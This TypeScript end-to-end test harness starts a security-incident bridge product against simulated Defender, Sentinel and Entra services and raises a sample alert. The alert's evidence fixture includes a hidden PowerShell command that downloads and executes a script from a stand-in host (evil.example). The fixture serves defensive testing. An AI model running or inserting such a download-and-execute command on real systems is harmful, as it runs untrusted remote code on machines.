// The full product as the end-to-end flow's bot: the real composition root (src/start-bridge.ts
// startBridge) in local mode, with its embedded Defender XDR / Sentinel / Entra simulators, the
// embedded PGlite store, the sync engine and the bot, on ephemeral loopback ports. Nothing is
// faked but Teams itself (the Agents Playground is the client).
//
// The sample incident is raised as an alert in the Graph simulator; the simulators import it into
// Sentinel, the watcher links the pair, and the notifier posts the card: the same path as in
// production.
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Writable } from 'node:stream';
import { createLogSink } from './local-bot.ts';
import { startBridge, type RunningBridge } from '../../../src/start-bridge.ts';
import { loadConfig, type Config } from '../../../src/config/config.ts';
import { readEnvironment } from '../../../src/config/env-files.ts';
import { createLogger } from '../../../src/observability/logger.ts';
import type { RunningSimulators } from '../../../src/simulators/index.ts';
import type { BotUnderTest, SampleIncident } from './bot-under-test.ts';
import { PLAYGROUND_DEFAULTS } from './playground.ts';
import { seedEmbeddedDatabase } from '../../support/embedded-database.ts';

const ROOT = fileURLToPath(new URL('../../../', import.meta.url));

/** pino levels: 50 = error, 60 = fatal. */

/** The evidence of the sample alert, in Graph's shapes: the device, the account, and what ran and was reached. */
export const SAMPLE_EVIDENCE = [
  { '@odata.type': '#microsoft.graph.security.deviceEvidence', deviceDnsName: 'fin-laptop-07.contoso.example', mdeDeviceId: '4f8a2e1c9b7d6a5f3e2d1c0b9a8f7e6d5c4b3a21', osPlatform: 'Windows11', version: '23H2', roles: ['compromised'] },
  { '@odata.type': '#microsoft.graph.security.userEvidence', userAccount: { accountName: 'jkim', domainName: 'CONTOSO', userPrincipalName: 'jenny.kim@contoso.example', displayName: 'Jenny Kim' }, roles: ['compromised'] },
  { '@odata.type': '#microsoft.graph.security.processEvidence', processId: 7412, processCommandLine: 'powershell.exe -nop -w hidden -c iwr https://evil.example/stage2.ps1 | iex', imageFile: { fileName: 'powershell.exe', filePath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0' }, verdict: 'suspicious' },
  { '@odata.type': '#microsoft.graph.security.urlEvidence', url: 'https://evil.example/stage2.ps1', verdict: 'malicious', roles: ['commandAndControl'] },
  { '@odata.type': '#microsoft.graph.security.ipEvidence', ipAddress: '203.0.113.45', countryLetterCode: 'NL', verdict: 'malicious', roles: ['attacker'] },
];

/** The alert the flow raises; the Graph simulator turns it into a new incident with this title. */
export const SAMPLE_ALERT = {
  serviceSource: 'microsoftDefenderForEndpoint',
  title: 'Suspicious PowerShell download on FIN-LAPTOP-07',
  severity: 'medium' as const,
  category: 'Execution',
  mitreTechniques: ['T1059.001', 'T1105'],
  evidence: SAMPLE_EVIDENCE,
};

/** What raiseIncident raises: an alert as the simulators' control API takes it. */
export type AlertToRaise = Parameters<RunningSimulators['control']['raiseAlert']>[0];

export interface ProductOptions {
  /** Simulated portals mirror title, severity, tags and comments between themselves (default true). */
  nativeSync?: boolean;
  /** APPROVERS: the Playground user by default, so they may set the approvers' channel and approve. */
  approvers?: readonly string[];
  /** How long to wait for the watcher to link a raised alert's incident. */
  linkTimeoutMs?: number;
  /** Print the product's logs (pino JSON) to stderr; also set by E2E_LOG=1. */
  printLogs?: boolean;
}

export interface ProductBot extends BotUnderTest {
  readonly bridge: RunningBridge;
  readonly simulators: RunningSimulators;
  readonly config: Config;
  /** The Graph (Defender) id of the sample incident, once announced. */
  readonly defenderId: string;
  /** Raises an alert that opens an incident, and waits until the watcher linked it with its Sentinel copy. */
  raiseIncident(alert: AlertToRaise): Promise<{ defenderId: string; linkId: string }>;
}


/** Polls `probe` until it returns a value; rejects with `what` after the deadline. */
export async function waitUntil<T>(what: string, probe: () => Promise<T | null | undefined | false> | T | null | undefined | false, timeoutMs = 15_000): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const value = await probe();
    if (value) return value;
    if (Date.now() > deadline) throw new Error(`Timed out after ${timeoutMs} ms waiting for ${what}.`);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

export async function startProductOverSimulators(options: ProductOptions = {}): Promise<ProductBot> {
  const sink = createLogSink(options.printLogs ?? process.env['E2E_LOG'] === '1');
  const log = createLogger({ level: 'info', name: 'e2e-product', destination: sink.stream as Writable });
  const dataDir = await mkdtemp(join(tmpdir(), 'e2e-product-'));
  await seedEmbeddedDatabase(dataDir);
  const approvers = options.approvers ?? [PLAYGROUND_DEFAULTS.userPrincipalName];
  let bridge: RunningBridge;
  let config: Config;
  try {
    config = loadConfig(
      readEnvironment(ROOT, {
        TEAMSFX_ENV: 'local',
        DATA_DIR: dataDir,
        DATABASE_URL: '',
        PORTAL_CA_FILE: '',
        SIM_PORT: '0',
        SIM_EVENTS_PER_MINUTE: '0',
        // Half a second: the watcher sees the new incident and the edits' read-backs quickly.
        POLL_INTERVAL_SECONDS: '0.5',
        // ANALYSTS stays unset: in local mode everyone may edit (issue 4).
        APPROVERS: approvers.join(','),
      }),
    );
    bridge = await startBridge(config, {
      log,
      port: 0,
      replicaName: 'e2e-product',
      simulatorOverrides: {
        port: 0,
        scenario: { enabled: false },
        nativeSync: options.nativeSync ?? true,
        // The Azure-portal method, so the connector's incident creation rules may be turned on
        // (the Defender-portal method does not support them); imported without the documented
        // "typically within five minutes" delay.
        integrationMethod: 'azurePortal',
        azurePortalDelayMs: 0,
        onError: (error, context) => sink.errors.push({ simulator: context, error: String(error) }),
      },
    });
  } catch (error) {
    await rm(dataDir, { recursive: true, force: true });
    throw error;
  }
  const simulators = bridge.simulators;
  if (!simulators) {
    await bridge.close();
    await rm(dataDir, { recursive: true, force: true });
    throw new Error('startBridge ran without embedded simulators: the local configuration must have SIMULATORS=embedded.');
  }
  const store = bridge.context.store;
  const pairId = config.pairs[0]?.id ?? '';

  let linkId: string | null = null;
  let defenderId: string | null = null;
  const sample: SampleIncident = {
    get linkId(): string {
      if (linkId === null) throw new Error('The sample incident is not linked yet: call announceSampleIncident() first.');
      return linkId;
    },
    title: SAMPLE_ALERT.title,
    severity: SAMPLE_ALERT.severity,
    tags: [],
  };

  const control = simulators.control;
  async function raiseIncident(alert: AlertToRaise): Promise<{ defenderId: string; linkId: string }> {
    const raised = control.raiseAlert(alert);
    // The watcher polls Graph and ARM, then links the Defender incident and its Sentinel copy.
    const link = await waitUntil(
      `the watcher to link Defender incident ${raised.incidentId} with its Sentinel copy`,
      async () => {
        const found = await store.links.findByDefenderId(pairId, raised.incidentId);
        return found?.sentinelId ? found : null;
      },
      options.linkTimeoutMs ?? 20_000,
    );
    return { defenderId: raised.incidentId, linkId: link.linkId };
  }

  return {
    endpoint: `http://127.0.0.1:${bridge.port}/api/messages`,
    sample,
    bridge,
    simulators,
    config,
    get defenderId(): string {
      if (defenderId === null) throw new Error('The sample incident was not raised yet: call announceSampleIncident() first.');
      return defenderId;
    },
    raiseIncident,
    async announceSampleIncident() {
      const raised = await raiseIncident(SAMPLE_ALERT);
      defenderId = raised.defenderId;
      linkId = raised.linkId;
    },
    async idle() {
      // Edits are finished (applied and read back, or failed) once no request is unfinished.
      await waitUntil('every edit request to finish', async () => (await store.editRequests.listUnfinished(1)).length === 0, 20_000);
    },
    backgroundErrors: () => [...sink.errors],
    async close() {
      await bridge.close();
      await rm(dataDir, { recursive: true, force: true });
    },
  };
}
